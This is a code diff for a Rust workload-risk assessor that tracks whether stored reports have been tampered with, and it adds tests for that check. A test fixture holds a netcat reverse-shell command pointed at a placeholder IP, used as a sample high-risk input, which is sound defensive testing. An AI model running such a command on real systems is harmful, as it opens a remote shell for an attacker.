@@ -14,7 +14,7 @@ use serde_json::value::RawValue;
 use super::id::Id;
 use super::ledger::Key;
 use crate::api::report::{JobRiskReport, Peak, ReportSpec, ReportStatus, keys};
-use crate::report::{Digest, RETAINED_FROM, digest_of, raised_peak, report_names};
+use crate::report::{Digest, RETAINED_FROM, digest_of, raised_peak, report_names, subject_owner};
 use crate::severity::Severity;
 use crate::workload::Kind;
 
@@ -131,6 +131,8 @@ pub struct Known {
     pub subject_generation: i64,
     /// Which of its [`report_names`] it has.
     pub name: u8,
+    /// Its digest would be right with the workload as an owner, which the garbage collector takes out when it is gone.
+    pub is_trimmed: bool,
     /// The list of reports in which it was last seen.
     pub round: u32,
 }
@@ -139,6 +141,11 @@ impl Known {
     /// Whether the content is the same.
     pub fn is_as(&self, other: &Self) -> bool {
         self.digest.is_some() && self.digest == other.digest && self.history == other.history
+    }
+
+    /// Whether what stands in it is what was written, or is so but for the owner that is gone.
+    pub fn is_sealed(&self) -> bool {
+        self.digest.is_some() || self.is_trimmed
     }
 
     /// Whether the report is to outlive its workload.
@@ -177,7 +184,7 @@ impl Stored {
         })
     }
 
-    /// What to remember of it, if it is a report with a verdict.
+    /// What to remember of it, if it is a report.
     pub fn known(&self) -> Option<Known> {
         self.known_as(self.subject()?.name)
     }
@@ -185,14 +192,16 @@ impl Stored {
     /// [`Self::known`] of a report that has this one of its names.
     pub fn known_as(&self, name: u8) -> Option<Known> {
         self.meta.uid.as_ref()?;
-        let status = self.status.as_ref()?;
+        let Some(status) = &self.status else { return Some(self.without_verdict(name)) };
         let sealed = self.meta.annotations.as_ref().and_then(|all| all.get(keys::DIGEST));
         let sealed = sealed.and_then(|text| Digest::parse(text));
         let content = digest_of(&self.meta, self.spec.as_ref()?, Some(status));
+        let digest = sealed.filter(|sealed| *sealed == content);
         Some(Known {
             id: self.id(),
             generation: self.meta.generation.unwrap_or_default(),
-            digest: sealed.filter(|sealed| *sealed == content),
+            digest,
+            is_trimmed: digest.is_none() && sealed.is_some_and(|sealed| self.is_trimmed(sealed)),
             history: history(status),
             severity: status.severity,
             risk_score: status.risk_score,
@@ -202,6 +211,36 @@ impl Stored {
             name,
             round: 0,
         })
+    }
+
+    /// Whether it had this digest as long as the workload was its first owner.
+    fn is_trimmed(&self, sealed: Digest) -> bool {
+        let (Some(spec), Some(owners)) = (&self.spec, &self.meta.owner_references) else { return false };
+        if owners.iter().any(|owner| owner.uid == spec.subject.uid) {
+            return false;
+        }
+        let owners = std::iter::once(subject_owner(&spec.subject)).chain(owners.iter().cloned()).collect();
+        let meta = ObjectMeta { owner_references: Some(owners), ..self.meta.clone() };
+        digest_of(&meta, spec, self.status.as_ref()) == sealed
+    }
+
+    /// What to remember of a report whose verdict somebody has removed or made unreadable.
+    fn without_verdict(&self, name: u8) -> Known {
+        let severity = Severity::None;
+        Known {
+            id: self.id(),
+            generation: self.meta.generation.unwrap_or_default(),
+            digest: None,
+            is_trimmed: false,
+            history: 0,
+            severity,
+            risk_score: 0,
+            peak: Peak { severity, risk_score: 0, subject_generation: 0 },
+            runs: 0,
+            subject_generation: 0,
+            name,
+            round: 0,
+        }
     }
 
     /// The report with nothing but what jobrisk writes, to be applied again with a change.
@@ -239,4 +278,51 @@ fn history(status: &ReportStatus) -> u64 {
     let mut hasher = DefaultHasher::new();
     serde_json::to_string(&(status.peak, &status.differing_runs)).unwrap_or_default().hash(&mut hasher);
     hasher.finish()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::assess::assess;
+    use crate::report::report_owned;
+    use crate::workload::decode::from_json;
+
+    /// A report at High as an API server stores it, changed by `change`.
+    fn stored(change: impl Fn(&mut serde_json::Value)) -> Stored {
+        let json = r#"{"metadata": {"name": "a", "namespace": "n", "uid": "1"}, "spec": {"template": {"spec": {
+            "containers": [{"name": "c", "command": ["nc", "192.0.2.10", "4444", "-e", "/bin/sh"]}]}}}}"#;
+        let draft =
+            report_owned(&assess(Kind::Job, &from_json(json.as_bytes()).unwrap()), Some("definition"));
+        let mut report = serde_json::to_value(&draft.report).unwrap();
+        report["metadata"]["uid"] = "r".into();
+        report["metadata"]["generation"] = 1.into();
+        change(&mut report);
+        serde_json::from_value(report).unwrap()
+    }
+
+    #[test]
+    fn a_report_is_sealed_as_long_as_nobody_changes_what_it_says() {
+        let known = stored(|_| {}).known().unwrap();
+        assert!(known.digest.is_some() && known.is_retained());
+        let changed = stored(|report| report["status"]["riskScore"] = 0.into()).known().unwrap();
+        assert!(!changed.is_sealed());
+        let emptied = stored(|report| report["status"] = serde_json::Value::Null).known().unwrap();
+        assert!(!emptied.is_sealed() && !emptied.is_retained());
+    }
+
+    #[test]
+    fn the_owner_that_is_gone_is_all_that_may_be_missing() {
+        let trim = |report: &mut serde_json::Value| {
+            report["metadata"]["ownerReferences"].as_array_mut().unwrap().remove(0);
+        };
+        let trimmed = stored(trim).known().unwrap();
+        assert!(trimmed.digest.is_none() && trimmed.is_sealed());
+        let more = stored(|report| {
+            trim(report);
+            report["status"]["riskScore"] = 0.into();
+        });
+        assert!(!more.known().unwrap().is_sealed());
+        let none = stored(|report| report["metadata"]["ownerReferences"] = serde_json::Value::Null);
+        assert!(!none.known().unwrap().is_sealed());
+    }
 }
